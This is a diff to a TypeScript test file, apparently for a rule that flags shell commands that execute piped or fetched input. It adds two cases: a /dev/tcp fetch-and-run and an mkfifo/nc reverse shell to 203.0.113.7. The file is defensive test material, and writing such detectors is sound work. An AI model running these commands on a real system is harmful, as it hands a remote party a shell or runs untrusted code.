@@ -71,6 +71,8 @@ const invalid: Invalid[] = [
   { cmd: 'source <(./gen-env.sh)', ruleId: R, messageId: 'script' },
   { cmd: 'cat cmds.txt | sh', ruleId: R, messageId: 'stdin' },
   { cmd: 'git show HEAD:deploy.sh | bash', ruleId: R, messageId: 'stdin' },
+  { cmd: 'exec 3</dev/tcp/203.0.113.7/80; bash <&3', note: 'stdin from a file descriptor', ruleId: R },
+  { cmd: 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f', ruleId: R, messageId: 'stdin' },
   { cmd: './gen > cmds.txt; sh < cmds.txt', note: 'written by a program warden cannot read', ruleId: R },
   { cmd: 'tar xzf payload.tgz && ./setup.sh', note: 'unpacked by the same command line', ruleId: R, messageId: 'script' },
   { cmd: 'git clone https://example.com/x.git && bash x/install.sh', ruleId: R, messageId: 'script' },
